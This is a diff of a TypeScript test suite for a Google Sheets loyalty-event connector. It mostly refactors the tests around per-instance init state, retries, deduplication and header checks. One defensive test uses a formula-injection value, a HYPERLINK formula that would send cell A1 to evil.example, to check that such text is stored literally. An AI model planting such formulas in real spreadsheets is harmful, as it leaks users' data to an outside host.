@@ -8,7 +8,7 @@ import {
 import { createServiceAccount, type FakeGoogle, sampleEvent, startFakeGoogle } from "@engage-bridge/testkit";
 import { afterEach, describe, expect, it, vi } from "vitest";
 import { type GoogleSheetsConfig, googleSheetsConfigSchema } from "./config.ts";
-import { googleSheetsConnector } from "./connector.ts";
+import { type GoogleSheetsState, googleSheetsConnector } from "./connector.ts";
 import { DEFAULT_COLUMNS, HEADER, type LoyaltyEvent } from "./rows.ts";
 
 const fakes: FakeGoogle[] = [];
@@ -26,20 +26,65 @@ function configFor(fake: FakeGoogle, overrides: Partial<Record<string, unknown>>
   return googleSheetsConfigSchema.parse({ ...fake.connectorConfig(), ...overrides });
 }
 
-function context(config: GoogleSheetsConfig, signal: AbortSignal = AbortSignal.timeout(20_000)) {
+/** One configured connector instance: its config and the state its `init` returned. */
+interface Instance {
+  config: GoogleSheetsConfig;
+  state: GoogleSheetsState;
+}
+
+/** A logger and health that record their calls. */
+function recorders() {
   const logs: unknown[] = [];
   const log = (obj: unknown, msg?: string) => logs.push([obj, msg]);
   const health = { unhealthy: vi.fn<(reason: string) => void>(), healthy: vi.fn<() => void>() };
+  return { logs, logger: { debug: log, info: log, warn: log, error: log }, health };
+}
+
+/** A delivery's ctx, recording logs, health and `pace` calls. */
+function context(instance: Instance, signal: AbortSignal = AbortSignal.timeout(20_000)) {
   const pace = vi.fn<() => Promise<void>>(async () => undefined);
   return {
-    config,
+    config: instance.config,
+    // As the gateway does: every delivery of an instance gets the state its `init` returned.
+    state: instance.state,
     signal,
-    health,
     pace,
-    logs,
-    logger: { debug: log, info: log, warn: log, error: log },
+    ...recorders(),
     lookupContact: undefined,
   };
+}
+
+/** `init`'s ctx (without `pace`: a write at start is the first of its call). */
+function initContext(signal: AbortSignal = AbortSignal.timeout(20_000)) {
+  const { logger, health } = recorders();
+  return { logger, health, signal, lookupContact: undefined };
+}
+
+/** Runs `init` (which this connector always has) and returns the instance's state. */
+function init(
+  config: GoogleSheetsConfig,
+  ctx = initContext(),
+  connector = googleSheetsConnector,
+): Promise<GoogleSheetsState> {
+  if (!connector.init) throw new Error("the connector has no init");
+  return connector.init(config, ctx);
+}
+
+/** Starts an instance as the gateway does: `init` once, before its first delivery. */
+async function start(config: GoogleSheetsConfig, connector = googleSheetsConnector): Promise<Instance> {
+  return { config, state: await init(config, initContext(), connector) };
+}
+
+/**
+ * Starts an instance whose start-up check did not get through (its time ran out before Google was
+ * reached): `init` only logs that and returns the state, so the instance's first delivery checks
+ * row 1, reads the event-id column and writes the header of an empty sheet, as after a start while
+ * Google was unreachable. For tests of what deliveries do then.
+ */
+async function startUnchecked(config: GoogleSheetsConfig): Promise<Instance> {
+  const state = await init(config, initContext(AbortSignal.abort()));
+  expect(state.started).toBe(false);
+  return { config, state };
 }
 
 let received = Date.parse("2026-11-28T10:00:00Z");
@@ -64,16 +109,18 @@ describe("googleSheets connector", () => {
     const points = item("loyalty.addPoints", { createdAt: "2026-11-28T09:59:58+01:00" });
     const balance = item("point.balance.updated");
     const voucher = item("reward.voucher.created");
-    const ctx = context(config);
+    // Google was not reached at start: the first delivery finds the sheet empty.
+    const instance = await startUnchecked(config);
+    const ctx = context(instance);
     const results = await googleSheetsConnector.deliver([points, balance, voucher], ctx);
     expect(results).toEqual([{ status: "delivered" }, { status: "delivered" }, { status: "delivered" }]);
     // Header and rows: two writes in one delivery, the second paced by the gateway's limiter.
     expect(ctx.pace).toHaveBeenCalledTimes(1);
     // A second batch (and a second instance on the same sheet) writes no second header.
-    await googleSheetsConnector.deliver([item("loyalty.addPoints")], context(config));
+    await googleSheetsConnector.deliver([item("loyalty.addPoints")], context(instance));
     await googleSheetsConnector.deliver(
       [item("loyalty.addPoints")],
-      context(configFor(fake, { spreadsheetId: config.spreadsheetId })),
+      context(await start(configFor(fake, { spreadsheetId: config.spreadsheetId }))),
     );
 
     const rows = fake.rows(config.spreadsheetId, "Loyalty");
@@ -134,10 +181,11 @@ describe("googleSheets connector", () => {
   it("keeps text that looks like a formula literal", async () => {
     const fake = await fakeGoogle();
     const config = configFor(fake);
+    const instance = await start(config);
     const formula = '=HYPERLINK("https://evil.example/?leak="&A1,"Claim")';
     await googleSheetsConnector.deliver(
       [item("reward.voucher.created", { UniqueCode: formula, Currency: "=1+1", Id: "+SUM(A1:A9)" })],
-      context(config),
+      context(instance),
     );
     const [, row] = fake.rows(config.spreadsheetId, "Loyalty");
     expect(row?.[8]).toBe("+SUM(A1:A9)");
@@ -149,10 +197,11 @@ describe("googleSheets connector", () => {
   it("reads back after an append whose connection dropped, and writes nothing twice", async () => {
     const fake = await fakeGoogle();
     const config = configFor(fake);
-    await googleSheetsConnector.deliver([item("loyalty.addPoints")], context(config));
+    const instance = await start(config);
+    await googleSheetsConnector.deliver([item("loyalty.addPoints")], context(instance));
     fake.dropAfterApply(1);
     const batch = Array.from({ length: 5 }, () => item("loyalty.addPoints"));
-    const ctx2 = context(config);
+    const ctx2 = context(instance);
     const results = await googleSheetsConnector.deliver(batch, ctx2);
     expect(results.every((r) => r.status === "delivered")).toBe(true);
     const ids = eventIds(fake, config);
@@ -170,10 +219,11 @@ describe("googleSheets connector", () => {
   it("appends only the missing rows when the dropped append was not applied", async () => {
     const fake = await fakeGoogle();
     const config = configFor(fake);
-    await googleSheetsConnector.deliver([item("loyalty.addPoints")], context(config));
+    const instance = await start(config);
+    await googleSheetsConnector.deliver([item("loyalty.addPoints")], context(instance));
     fake.failNext(1, { drop: true });
     const batch = Array.from({ length: 3 }, () => item("point.balance.updated"));
-    const ctx = context(config);
+    const ctx = context(instance);
     await googleSheetsConnector.deliver(batch, ctx);
     // The second append of the delivery waited for the rate limit.
     expect(ctx.pace).toHaveBeenCalledTimes(1);
@@ -186,11 +236,12 @@ describe("googleSheets connector", () => {
   it("leaves no duplicate when the read-back fails too and the engine retries the batch", async () => {
     const fake = await fakeGoogle();
     const config = configFor(fake);
-    await googleSheetsConnector.deliver([item("loyalty.addPoints")], context(config));
+    const instance = await start(config);
+    await googleSheetsConnector.deliver([item("loyalty.addPoints")], context(instance));
     fake.dropAfterApply(1);
     fake.failNext(1, { status: 503 }, "get");
     const batch = Array.from({ length: 4 }, () => item("loyalty.addPoints"));
-    const failed = await googleSheetsConnector.deliver(batch, context(config)).then(
+    const failed = await googleSheetsConnector.deliver(batch, context(instance)).then(
       () => undefined,
       (error: unknown) => error,
     );
@@ -198,7 +249,7 @@ describe("googleSheets connector", () => {
     expect(settleBatch(4, { error: failed }).every((r) => r.status === "retry")).toBe(true);
     // The engine's next attempt: same items, attempt 2.
     const again = batch.map((i) => ({ ...i, attempt: 2 }));
-    const results = await googleSheetsConnector.deliver(again, context(config));
+    const results = await googleSheetsConnector.deliver(again, context(instance));
     expect(results.every((r) => r.status === "delivered")).toBe(true);
     const ids = eventIds(fake, config);
     expect(ids).toHaveLength(6);
@@ -211,9 +262,10 @@ describe("googleSheets connector", () => {
       const fake = await fakeGoogle();
       fake.beyondGrid = answer;
       const config = configFor(fake);
+      const instance = await start(config);
       for (let round = 0; round < 3; round++) {
         const batch = Array.from({ length: 400 }, () => item("loyalty.addPoints"));
-        const results = await googleSheetsConnector.deliver(batch, context(config));
+        const results = await googleSheetsConnector.deliver(batch, context(instance));
         expect(results.every((r) => r.status === "delivered")).toBe(true);
       }
       // An append lands but its answer is lost, and so is the read that would tell: the connector
@@ -221,7 +273,7 @@ describe("googleSheets connector", () => {
       const batch = Array.from({ length: 5 }, () => item("loyalty.addPoints"));
       fake.dropAfterApply(1);
       fake.failNext(1, { status: 503 }, "get");
-      await expect(googleSheetsConnector.deliver(batch, context(config))).rejects.toBeInstanceOf(
+      await expect(googleSheetsConnector.deliver(batch, context(instance))).rejects.toBeInstanceOf(
         RetryableError,
       );
       // Someone tidies the sheet meanwhile: all but the last 105 rows go.
@@ -230,7 +282,7 @@ describe("googleSheets connector", () => {
       // neither dies on Google's refusal nor appends them twice.
       const results = await googleSheetsConnector.deliver(
         batch.map((i) => ({ ...i, attempt: 2 })),
-        context(config),
+        context(instance),
       );
       expect(results.every((r) => r.status === "delivered")).toBe(true);
       const ids = eventIds(fake, config);
@@ -244,7 +296,7 @@ describe("googleSheets connector", () => {
     const input = fake.connectorConfig();
     const batch = Array.from({ length: 3 }, () => item("loyalty.addPoints"));
     // The earlier process: its append landed, but it never recorded the deliveries.
-    await googleSheetsConnector.deliver(batch, context(googleSheetsConfigSchema.parse(input)));
+    await googleSheetsConnector.deliver(batch, context(await start(googleSheetsConfigSchema.parse(input))));
     vi.resetModules();
     const fresh = await import("./connector.ts");
     const freshSchema = (await import("./config.ts")).googleSheetsConfigSchema;
@@ -252,7 +304,7 @@ describe("googleSheets connector", () => {
     // The lease ran out: the same deliveries come back with attempt 1 to a new process.
     const results = await fresh.googleSheetsConnector.deliver(
       [...batch, item("loyalty.addPoints")],
-      context(config),
+      context(await start(config, fresh.googleSheetsConnector)),
     );
     expect(results.every((r) => r.status === "delivered")).toBe(true);
     const ids = eventIds(fake, config);
@@ -265,11 +317,14 @@ describe("googleSheets connector", () => {
   it("throws a rate-limited retryable error on 429 and writes once the quota allows", async () => {
     const fake = await fakeGoogle();
     const config = configFor(fake);
-    await googleSheetsConnector.deliver([item("loyalty.addPoints")], context(config));
+    const instance = await start(config);
+    await googleSheetsConnector.deliver([item("loyalty.addPoints")], context(instance));
     fake.writeQuota = { requests: 1, perSeconds: 1 };
     const batch = [item("loyalty.addPoints"), item("reward.voucher.created")];
-    await googleSheetsConnector.deliver([item("loyalty.addPoints")], context(config)).catch(() => undefined);
-    const error = await googleSheetsConnector.deliver(batch, context(config)).catch((e: unknown) => e);
+    await googleSheetsConnector
+      .deliver([item("loyalty.addPoints")], context(instance))
+      .catch(() => undefined);
+    const error = await googleSheetsConnector.deliver(batch, context(instance)).catch((e: unknown) => e);
     expect(error).toBeInstanceOf(RetryableError);
     expect((error as RetryableError).rateLimited).toBe(true);
     expect((error as Error).message).toMatch(/quota exceeded \(429 RESOURCE_EXHAUSTED\)/);
@@ -277,7 +332,7 @@ describe("googleSheets connector", () => {
     expect(limited.length).toBeGreaterThanOrEqual(1);
     await new Promise((r) => setTimeout(r, 1_100));
     const retried = batch.map((i) => ({ ...i, attempt: 2 }));
-    expect(await googleSheetsConnector.deliver(retried, context(config))).toHaveLength(2);
+    expect(await googleSheetsConnector.deliver(retried, context(instance))).toHaveLength(2);
     const ids = eventIds(fake, config);
     expect(new Set(ids).size).toBe(ids.length);
     expect(ids).toContain(batch[1]?.event.id);
@@ -286,9 +341,10 @@ describe("googleSheets connector", () => {
   it("exchanges a new token once when Google revokes the current one", async () => {
     const fake = await fakeGoogle();
     const config = configFor(fake);
-    await googleSheetsConnector.deliver([item("loyalty.addPoints")], context(config));
+    const instance = await start(config);
+    await googleSheetsConnector.deliver([item("loyalty.addPoints")], context(instance));
     fake.revokeTokens();
-    const ctx = context(config);
+    const ctx = context(instance);
     await googleSheetsConnector.deliver([item("loyalty.addPoints")], ctx);
     expect(eventIds(fake, config)).toHaveLength(3);
     expect(fake.requests.filter((r) => r.operation === "token" && r.status === 200)).toHaveLength(2);
@@ -299,11 +355,12 @@ describe("googleSheets connector", () => {
   it("is dead and unhealthy when Google refuses the credentials (401)", async () => {
     const fake = await fakeGoogle();
     const config = configFor(fake);
-    await googleSheetsConnector.deliver([item("loyalty.addPoints")], context(config));
+    const instance = await start(config);
+    await googleSheetsConnector.deliver([item("loyalty.addPoints")], context(instance));
     const key = JSON.parse(config.serviceAccount ?? "{}") as { client_email: string };
     fake.removeServiceAccount(key.client_email);
     fake.revokeTokens();
-    const ctx = context(config);
+    const ctx = context(instance);
     const error = await googleSheetsConnector
       .deliver([item("loyalty.addPoints")], ctx)
       .catch((e: unknown) => e);
@@ -321,7 +378,8 @@ describe("googleSheets connector", () => {
     const config = configFor(fake);
     const key = JSON.parse(config.serviceAccount ?? "{}") as { client_email: string };
     fake.share(config.spreadsheetId, key.client_email, false);
-    const ctx = context(config);
+    // Google was not reached at start (its 403 there stops the gateway): the first delivery meets it.
+    const ctx = context(await startUnchecked(config));
     const error = await googleSheetsConnector
       .deliver([item("loyalty.addPoints")], ctx)
       .catch((e: unknown) => e);
@@ -333,7 +391,8 @@ describe("googleSheets connector", () => {
   it("is dead with a clear message for an unknown spreadsheet (404) or sheet", async () => {
     const fake = await fakeGoogle();
     const missing = configFor(fake, { spreadsheetId: "1DoesNotExist" });
-    const ctx = context(missing);
+    // As for 403: at start this stops the gateway; a delivery meets it when Google was not reached then.
+    const ctx = context(await startUnchecked(missing));
     const error = await googleSheetsConnector
       .deliver([item("loyalty.addPoints")], ctx)
       .catch((e: unknown) => e);
@@ -346,7 +405,7 @@ describe("googleSheets connector", () => {
     const noTab = configFor(fake, { sheetName: "Points log" });
     fake.createSpreadsheet(noTab.spreadsheetId, { sheets: ["Sheet1"] });
     const tabError = await googleSheetsConnector
-      .deliver([item("loyalty.addPoints")], context(noTab))
+      .deliver([item("loyalty.addPoints")], context(await startUnchecked(noTab)))
       .catch((e: unknown) => e);
     expect(tabError).toBeInstanceOf(PermanentError);
     expect((tabError as Error).message).toMatch(/sheet "Points log" does not exist in the spreadsheet/);
@@ -356,12 +415,15 @@ describe("googleSheets connector", () => {
     const fake = await fakeGoogle();
     const a = configFor(fake);
     const b = configFor(fake, { spreadsheetId: a.spreadsheetId });
+    // Neither start-up check reached Google: both instances' first deliveries check the sheet too,
+    // and write its header once between them.
+    const [first, second] = [await startUnchecked(a), await startUnchecked(b)];
     fake.latencyMs = 60;
     await Promise.all([
-      googleSheetsConnector.deliver([item("loyalty.addPoints"), item("loyalty.addPoints")], context(a)),
-      googleSheetsConnector.deliver([item("point.balance.updated")], context(b)),
-      googleSheetsConnector.deliver([item("reward.voucher.created")], context(a)),
-      googleSheetsConnector.deliver([item("loyalty.addPoints")], context(b)),
+      googleSheetsConnector.deliver([item("loyalty.addPoints"), item("loyalty.addPoints")], context(first)),
+      googleSheetsConnector.deliver([item("point.balance.updated")], context(second)),
+      googleSheetsConnector.deliver([item("reward.voucher.created")], context(first)),
+      googleSheetsConnector.deliver([item("loyalty.addPoints")], context(second)),
     ]);
     const api = fake.requests.filter((r) => r.operation !== "token");
     for (let i = 1; i < api.length; i++) {
@@ -375,8 +437,10 @@ describe("googleSheets connector", () => {
   it("retries, and writes nothing, when Google cannot be reached", async () => {
     const fake = await fakeGoogle();
     const config = configFor(fake, { rootUrl: "http://127.0.0.1:9/" });
+    // Nor at start: `init` only logged that.
+    const instance = await start(config);
     const error = await googleSheetsConnector
-      .deliver([item("loyalty.addPoints")], context(config))
+      .deliver([item("loyalty.addPoints")], context(instance))
       .catch((e: unknown) => e);
     expect(error).toBeInstanceOf(RetryableError);
     expect((error as Error).message).toMatch(/no answer from Google Sheets \(ECONNREFUSED\)/);
@@ -385,11 +449,12 @@ describe("googleSheets connector", () => {
   it("returns promptly when the attempt's signal aborts", async () => {
     const fake = await fakeGoogle();
     const config = configFor(fake);
-    await googleSheetsConnector.deliver([item("loyalty.addPoints")], context(config));
+    const instance = await start(config);
+    await googleSheetsConnector.deliver([item("loyalty.addPoints")], context(instance));
     fake.latencyMs = 5_000;
     const started = Date.now();
     const error = await googleSheetsConnector
-      .deliver([item("loyalty.addPoints")], context(config, AbortSignal.timeout(200)))
+      .deliver([item("loyalty.addPoints")], context(instance, AbortSignal.timeout(200)))
       .catch((e: unknown) => e);
     expect(error).toBeInstanceOf(RetryableError);
     expect(Date.now() - started).toBeLessThan(3_000);
@@ -411,9 +476,10 @@ describe("configured columns", () => {
         "source",
       ],
     });
+    const instance = await start(config);
     const points = item("loyalty.addPoints");
     const voucher = item("reward.voucher.created");
-    await googleSheetsConnector.deliver([points, voucher], context(config));
+    await googleSheetsConnector.deliver([points, voucher], context(instance));
     const contact = "1c9b35d6-28d8-4520-8900-a89555f7f0c5";
     expect(fake.rows(config.spreadsheetId, "Loyalty")).toEqual([
       ["Received at", "Händelse", "Contact ID", "Poäng", "Tenant", "Id", "Source"],
@@ -433,7 +499,7 @@ describe("configured columns", () => {
     expect(gets()).toEqual(["'Loyalty'!1:1", "'Loyalty'!F1:F"]);
     fake.dropAfterApply(1);
     const batch = Array.from({ length: 3 }, () => item("point.balance.updated"));
-    const results = await googleSheetsConnector.deliver(batch, context(config));
+    const results = await googleSheetsConnector.deliver(batch, context(instance));
     expect(results.every((r) => r.status === "delivered")).toBe(true);
     expect(gets().at(-1)).toMatch(/^'Loyalty'!F\d+:F$/);
     const ids = fake.rows(config.spreadsheetId, "Loyalty").map((row) => row[5]);
@@ -444,9 +510,10 @@ describe("configured columns", () => {
   it("stores text that starts with =, +, - or @ as that text, never a formula (RAW)", async () => {
     const fake = await fakeGoogle();
     const config = configFor(fake);
+    const instance = await start(config);
     const texts = ["=1+1", '=HYPERLINK("http://x","y")', "+1", "-1", "@x"];
     const items = texts.map((text) => item("loyalty.addPoints", { description: text, reason: text }));
-    await googleSheetsConnector.deliver(items, context(config));
+    await googleSheetsConnector.deliver(items, context(instance));
     const rows = fake.rows(config.spreadsheetId, "Loyalty").slice(1);
     // description and reason are columns N and O of the default columns.
     expect(rows.map((row) => [row[13], row[14]])).toEqual(texts.map((text) => [text, text]));
@@ -455,10 +522,6 @@ describe("configured columns", () => {
 });
 
 describe("header row", () => {
-  const initContext = (config: GoogleSheetsConfig) => {
-    const { logger, health, signal } = context(config);
-    return { logger, health, signal, lookupContact: undefined };
-  };
   const writes = (fake: FakeGoogle) =>
     fake.requests.filter((r) => r.operation === "append" || r.operation === "update");
   /** A sheet as the first version left it: its 13-column header and two rows. */
@@ -477,8 +540,8 @@ describe("header row", () => {
       ["2026-11-01T08:00:00.000Z", "", "old-1", "loyalty.addPoints"],
     ];
     fake.setRows(config.spreadsheetId, "Loyalty", sheet);
-    const ctx = initContext(config);
-    const error = await googleSheetsConnector.init?.(config, ctx).catch((e: unknown) => e);
+    const ctx = initContext();
+    const error = await init(config, ctx).catch((e: unknown) => e);
     expect(error).toBeInstanceOf(PermanentError);
     expect((error as Error).message).toBe(
       'row 1 of sheet "Loyalty" does not match the configured columns: row 1 is ["Received at", "Event time", "Event ID", "Type"], the configured header is ["Received at", "Event time", "Event ID", "Event type"]. First difference: column D. Make row 1 and columns match, or use an empty sheet. No rows are written until then: they would sit under the wrong labels.',
@@ -493,7 +556,8 @@ describe("header row", () => {
     const config = configFor(fake);
     // Google was unreachable at start, so the first delivery is the first to see row 1.
     fake.setRows(config.spreadsheetId, "Loyalty", [["Received", ...HEADER.slice(1)]]);
-    const ctx = context(config);
+    const instance = await startUnchecked(config);
+    const ctx = context(instance);
     const batch = [item("loyalty.addPoints")];
     const error = await googleSheetsConnector.deliver(batch, ctx).catch((e: unknown) => e);
     expect(error).toBeInstanceOf(RetryableError);
@@ -504,7 +568,7 @@ describe("header row", () => {
     expect(writes(fake)).toEqual([]);
 
     fake.setRows(config.spreadsheetId, "Loyalty", [[...HEADER]]);
-    const again = context(config);
+    const again = context(instance);
     expect(await googleSheetsConnector.deliver(batch, again)).toEqual([{ status: "delivered" }]);
     expect(again.health.healthy).toHaveBeenCalled();
     expect(eventIds(fake, config)).toEqual(["Event ID", batch[0]?.event.id]);
@@ -514,10 +578,12 @@ describe("header row", () => {
     const fake = await fakeGoogle();
     const config = configFor(fake);
     fake.setRows(config.spreadsheetId, "Loyalty", firstVersionSheet());
-    const ctx = initContext(config);
-    await googleSheetsConnector.init?.(config, ctx);
+    const state = await init(config);
     const points = item("loyalty.addPoints");
-    expect(await googleSheetsConnector.deliver([points], context(config))).toEqual([{ status: "delivered" }]);
+    // The state init returned knows to write the 13 columns.
+    expect(await googleSheetsConnector.deliver([points], context({ config, state }))).toEqual([
+      { status: "delivered" },
+    ]);
     const rows = fake.rows(config.spreadsheetId, "Loyalty");
     expect(rows[0]).toEqual([...FIRST_VERSION]);
     expect(rows[3]).toHaveLength(13);
@@ -530,7 +596,7 @@ describe("header row", () => {
     // Configured columns (here the 13 of the first version plus tenant) that row 1 only starts.
     const refuse = configFor(fake, { columns: [...DEFAULT_COLUMNS.slice(0, 13), "tenant"] });
     fake.setRows(refuse.spreadsheetId, "Loyalty", firstVersionSheet());
-    const error = await googleSheetsConnector.init?.(refuse, initContext(refuse)).catch((e: unknown) => e);
+    const error = await init(refuse).catch((e: unknown) => e);
     expect((error as Error).message).toMatch(
       /the configured header is \[.*"Voucher valid to", "Tenant"\]\. The configured columns only add columns at the end: set onHeaderMismatch: append-new-columns to add them to row 1, or make row 1 and columns match\./,
     );
@@ -540,7 +606,7 @@ describe("header row", () => {
       spreadsheetId: refuse.spreadsheetId,
       onHeaderMismatch: "append-new-columns",
     });
-    await googleSheetsConnector.init?.(extend, initContext(extend));
+    const state = await init(extend);
     // Only the four new cells of row 1 were written, as RAW text (values.update).
     expect(writes(fake).map((r) => [r.operation, r.method, r.range, r.query.valueInputOption])).toEqual([
       ["update", "PUT", "'Loyalty'!N1:Q1", "RAW"],
@@ -550,7 +616,7 @@ describe("header row", () => {
     expect(rows.slice(1)).toEqual(firstVersionSheet().slice(1));
     // New rows line up with the extended header, below the old ones.
     const points = item("loyalty.addPoints");
-    await googleSheetsConnector.deliver([points], context(extend));
+    await googleSheetsConnector.deliver([points], context({ config: extend, state }));
     const after = fake.rows(extend.spreadsheetId, "Loyalty");
     expect(after).toHaveLength(4);
     expect(after[3]).toHaveLength(HEADER.length);
@@ -562,7 +628,7 @@ describe("header row", () => {
     const fake = await fakeGoogle();
     const config = configFor(fake, { onHeaderMismatch: "append-new-columns" });
     fake.setRows(config.spreadsheetId, "Loyalty", [["Received at", "Event ID"]]);
-    const error = await googleSheetsConnector.init?.(config, initContext(config)).catch((e: unknown) => e);
+    const error = await init(config).catch((e: unknown) => e);
     expect(error).toBeInstanceOf(PermanentError);
     expect((error as Error).message).toMatch(
       /row 1 is \["Received at", "Event ID"\].*First difference: column B\. Make row 1 and columns match, or use an empty sheet \(append-new-columns only adds columns after a row 1 that is the start of the header\)\./,
@@ -575,7 +641,7 @@ describe("header row", () => {
     });
     fake.createSpreadsheet(fewer.spreadsheetId, { sheets: ["Loyalty"] });
     fake.setRows(fewer.spreadsheetId, "Loyalty", [[...HEADER]]);
-    const fewerError = await googleSheetsConnector.init?.(fewer, initContext(fewer)).catch((e: unknown) => e);
+    const fewerError = await init(fewer).catch((e: unknown) => e);
     expect((fewerError as Error).message).toMatch(/Row 1 has 14 more column\(s\) than configured\./);
     expect(writes(fake)).toEqual([]);
   });
@@ -584,7 +650,7 @@ describe("header row", () => {
     const fake = await fakeGoogle();
     const config = configFor(fake);
     fake.setRows(config.spreadsheetId, "Loyalty", [[], firstVersionSheet()[1] ?? []]);
-    const error = await googleSheetsConnector.init?.(config, initContext(config)).catch((e: unknown) => e);
+    const error = await init(config).catch((e: unknown) => e);
     expect((error as Error).message).toMatch(
       /^row 1 of sheet "Loyalty" is empty but rows follow it \(the configured header is \["Received at", .*\]\)\. Write the header into row 1, or use an empty sheet\./,
     );
@@ -595,21 +661,16 @@ describe("header row", () => {
     const fake = await fakeGoogle();
     const config = configFor(fake, { columns: [{ column: "eventId", label: "=Id" }, "amount"] });
     fake.setRows(config.spreadsheetId, "Loyalty", [["=Id", "Points added"]]);
-    await googleSheetsConnector.init?.(config, initContext(config));
+    await init(config);
     expect(writes(fake)).toEqual([]);
   });
 });
 
 describe("init", () => {
-  const initContext = (config: GoogleSheetsConfig) => {
-    const { logger, health, signal } = context(config);
-    return { logger, health, signal, lookupContact: undefined };
-  };
-
   it("checks the sheet and writes the header at start", async () => {
     const fake = await fakeGoogle();
     const config = configFor(fake);
-    await googleSheetsConnector.init?.(config, initContext(config));
+    await init(config);
     expect(fake.rows(config.spreadsheetId, "Loyalty")).toEqual([[...HEADER]]);
   });
 
@@ -617,7 +678,7 @@ describe("init", () => {
     const fake = await fakeGoogle();
     const stranger = createServiceAccount();
     const config = configFor(fake, { serviceAccount: stranger.json });
-    const error = await googleSheetsConnector.init?.(config, initContext(config)).catch((e: unknown) => e);
+    const error = await init(config).catch((e: unknown) => e);
     expect((error as Error).message).toMatch(/invalid_grant: Invalid grant: account not found/);
     expect((error as Error).message).not.toContain(stranger.key.client_email);
     expect((error as Error).message).not.toContain("PRIVATE KEY");
@@ -627,20 +688,53 @@ describe("init", () => {
     const fake = await fakeGoogle();
     const { serviceAccount: _, ...rest } = fake.connectorConfig();
     const missing = googleSheetsConfigSchema.parse({ ...rest, serviceAccountFile: "/nonexistent/sa.json" });
-    await expect(googleSheetsConnector.init?.(missing, initContext(missing))).rejects.toThrow(
+    await expect(init(missing)).rejects.toThrow(
       "serviceAccountFile /nonexistent/sa.json cannot be read (ENOENT)",
     );
     const junk = googleSheetsConfigSchema.parse({
       ...rest,
       serviceAccount: '{"client_email":"x@y.z","private_key":"secret-ish"}',
     });
-    const error = await googleSheetsConnector.init?.(junk, initContext(junk)).catch((e: unknown) => e);
+    const error = await init(junk).catch((e: unknown) => e);
     expect((error as Error).message).toBe("serviceAccount: private_key is not a PEM-encoded RSA private key");
   });
 
   it("starts anyway when Google cannot be reached", async () => {
     const fake = await fakeGoogle();
     const config = configFor(fake, { rootUrl: "http://127.0.0.1:9/" });
-    await expect(googleSheetsConnector.init?.(config, initContext(config))).resolves.toBeUndefined();
+    // The state is returned all the same; the first delivery checks the sheet.
+    await expect(init(config)).resolves.toMatchObject({ started: false });
+  });
+
+  it("gives each instance its own state, sharing only what the process knows of the sheet and its lock", async () => {
+    const fake = await fakeGoogle();
+    const config = configFor(fake);
+    // Two instances with one config (two gateway connector blocks alike): two states.
+    const [one, two] = [await init(config), await init(config)];
+    expect(one).not.toBe(two);
+    expect(one.client).not.toBe(two.client);
+    expect([one.started, two.started]).toEqual([true, true]);
+    // One writer per spreadsheet, and rows one instance wrote are known to the other.
+    expect(one.lock).toBe(two.lock);
+    expect(one.sheet).toBe(two.sheet);
+    fake.createSpreadsheet("1Other", { sheets: ["Loyalty"] });
+    const other = await init(configFor(fake, { spreadsheetId: "1Other" }));
+    expect(other.lock).not.toBe(one.lock);
+    expect(other.sheet).not.toBe(one.sheet);
+  });
+
+  it("retries, and reports itself unhealthy, when a delivery comes without the state init returned", async () => {
+    const fake = await fakeGoogle();
+    const { state: _, ...ctx } = context(await start(configFor(fake)));
+    const error = await googleSheetsConnector
+      .deliver(
+        [item("loyalty.addPoints")],
+        ctx as unknown as Parameters<typeof googleSheetsConnector.deliver>[1],
+      )
+      .catch((e: unknown) => e);
+    expect(error).toBeInstanceOf(RetryableError);
+    expect((error as Error).message).toMatch(/without the state init returned/);
+    expect(ctx.health.unhealthy).toHaveBeenCalledWith((error as Error).message);
+    expect(appends(fake)).toHaveLength(1);
   });
 });
